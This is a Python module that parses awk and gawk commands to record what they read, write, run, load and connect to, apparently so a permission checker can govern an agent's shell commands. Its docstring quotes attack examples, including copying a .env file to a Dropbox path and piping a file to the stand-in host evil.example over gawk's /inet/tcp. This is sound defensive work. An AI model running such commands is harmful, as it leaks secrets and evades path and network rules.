"""What an awk command does besides printing, read from its command line and program text:
the files it reads (operands, ``-f PROG``, ``getline < "F"``), the files it writes (``print >
"F"``, ``printf >> "F"``, gawk's ``-i inplace``), the shell commands it runs (``system("C")``,
``print | "C"``, ``"C" | getline``) and the network peers it reaches (gawk's
``/inet/tcp/0/HOST/PORT``). A write, command or peer named by an expression computed at run
time is asked about. Pure: no I/O.

Attack class: ``awk '{print > "/home/u/Dropbox/x"}' .env`` copies a file outside the allowed
paths as ``cp`` does; ``awk 'BEGIN{system("curl ...")}'`` runs a command no rule read;
``print |& "/inet/tcp/0/evil.example/80"`` sends a file to a host no rule saw.
"""

from __future__ import annotations

import re
from typing import Protocol

__all__ = ["AWKS", "awk"]

AWKS = frozenset({"awk", "gawk", "mawk", "nawk"})
_VALUE = frozenset({"-F", "-v", "-f", "-i", "-l", "-E", "--field-separator", "--assign",
                    "--file", "--include", "--load", "--exec"})  # fmt: skip
_STRING_RE = re.compile(r'"(?:[^"\\\n]|\\.)*"')
_HOLE = "\x01"
#: a print statement's text, to its end
_PRINT_RE = re.compile(r"\bprintf?\b([^;{}\n]*)")
_SYSTEM_RE = re.compile(r"\bsystem\s*\(\s*([^)]*)\)")
_GETLINE_CMD_RE = re.compile(r"([^\s(]+)\s*\|&?\s*getline\b")
_GETLINE_FILE_RE = re.compile(r"\bgetline\b\s*(?:[\w$]+\s*)?<\s*(\x01\d+\x01)")
_INET_RE = re.compile(r"^/inet[46]?/(?:tcp|udp)/[^/]*/([^/]+)/")


class _Walker(Protocol):
    def file(self, path: str, program: str, op: str) -> None: ...
    def net(self, kind: str, value: str, program: str) -> None: ...
    def nested(self, text: str) -> None: ...
    def opaque(self, why: str) -> None: ...


def _literal(expr: str, strings: list[str]) -> str | None:
    """The text of ``expr`` when it is one string literal (a hole), else None."""
    m = re.fullmatch(r"\s*\(?\s*\x01(\d+)\x01\s*\)?\s*", expr)
    return strings[int(m.group(1))] if m else None


def _redirect(statement: str) -> tuple[str, str] | None:
    """(operator, target expression) of a print statement's output redirect: the first
    ``>``, ``>>``, ``|`` or ``|&`` outside parentheses (``print (a > b)`` compares)."""
    depth = 0
    for i, c in enumerate(statement):
        depth += (c == "(") - (c == ")")
        if depth == 0 and c in ">|":
            op = statement[i : i + 2] if statement[i : i + 2] in (">>", "|&") else c
            return op, statement[i + len(op) :]
    return None


def _program(w: _Walker, prog: str, text: str) -> None:
    strings: list[str] = []

    def hole(m: re.Match[str]) -> str:
        strings.append(m.group(0)[1:-1].replace('\\"', '"').replace("\\\\", "\\"))
        return f"{_HOLE}{len(strings) - 1}{_HOLE}"

    code = _STRING_RE.sub(hole, text)
    for m in _PRINT_RE.finditer(code):
        found = _redirect(m.group(1))
        if found is None:
            continue
        op, target = found[0], _literal(found[1], strings)
        inet = _INET_RE.match(target or "")
        if inet is not None:
            w.net("host", inet.group(1), prog)
        elif target is None:
            w.opaque(f"{prog}: print {op} a target computed at run time")
        elif op.startswith("|"):
            w.nested(target)
        else:
            w.file(target, prog, "overwrite")
    for m in _SYSTEM_RE.finditer(code):
        cmd = _literal(m.group(1), strings)
        if cmd is None:
            w.opaque(f"{prog}: system() runs a command computed at run time")
        else:
            w.nested(cmd)
    for m in _GETLINE_CMD_RE.finditer(code):
        cmd = _literal(m.group(1), strings)
        inet = _INET_RE.match(cmd or "")
        if inet is not None:
            w.net("host", inet.group(1), prog)
        elif cmd is None:
            w.opaque(f"{prog}: getline reads a command computed at run time")
        else:
            w.nested(cmd)
    for m in _GETLINE_FILE_RE.finditer(code):
        w.file(strings[int(m.group(1).strip(_HOLE))], prog, "read")
    for m in _LOAD_RE.finditer(code):  # (@load "./x.so": as -l)
        _load(w, prog, strings[int(m.group(1))])


#: gawk's ``@load "NAME"`` directive (the name a string: a hole)
_LOAD_RE = re.compile(r"@load\s*\x01(\d+)\x01")


def _load(w: _Walker, prog: str, name: str) -> None:
    """``gawk -l NAME``/``--load``/``@load "NAME"`` loads a shared library: native code,
    run as the process (gawk manual, "Loading Dynamic Extensions"). A name with a ``/`` is
    that file (``-l ./x.so``: any library the agent wrote); a bare name is searched for in
    ``AWKLIBPATH`` (its default: the directory of gawk's own extensions; set in the same line
    it is opaque already, as ``LD_PRELOAD`` is)."""
    if "/" in name or "\\" in name or not name:
        w.opaque(f"{prog} loads a shared library from {name[:60]!r}")


def awk(w: _Walker, prog: str, args: tuple[str, ...]) -> None:
    """Record what ``awk ARGS`` reads, writes, runs and reaches (module docstring)."""
    plain: list[str] = []
    programs: list[str] = []
    in_place = False
    i = 0
    while i < len(args):
        a = args[i]
        name, eq, value = a.partition("=")
        if a == "--":
            plain.extend(args[i + 1 :])
            break
        if a in _VALUE or (a[:2] in _VALUE and len(a) > 2 and not a.startswith("--")):
            value = args[i + 1] if a in _VALUE and i + 1 < len(args) else a[2:]
            i += 1 if a in _VALUE else 0
            if a[:2] == "-l" or a == "--load":
                _load(w, prog, value)
            if a[:2] in ("-f", "-E") or a in ("--file", "--exec"):
                w.file(value, prog, "read")
                programs.append("")
            in_place = in_place or (a[:2] == "-i" or a == "--include") and value == "inplace"
        elif a.startswith("--") and eq and name in _VALUE:
            if name == "--load":
                _load(w, prog, value)
            if name in ("--file", "--exec"):
                w.file(value, prog, "read")
                programs.append("")
            in_place = in_place or (name == "--include" and value == "inplace")
        elif not a.startswith("-") or a == "-":
            plain.append(a)
        i += 1
    if not programs and plain:
        programs.append(plain.pop(0))
    for text in programs:
        _program(w, prog, text)
    for p in plain:
        if re.match(r"^[A-Za-z_]\w*=", p):
            continue  # (an assignment operand, not a file)
        w.file(p, prog, "read")
        if in_place:
            w.file(p, prog, "overwrite")
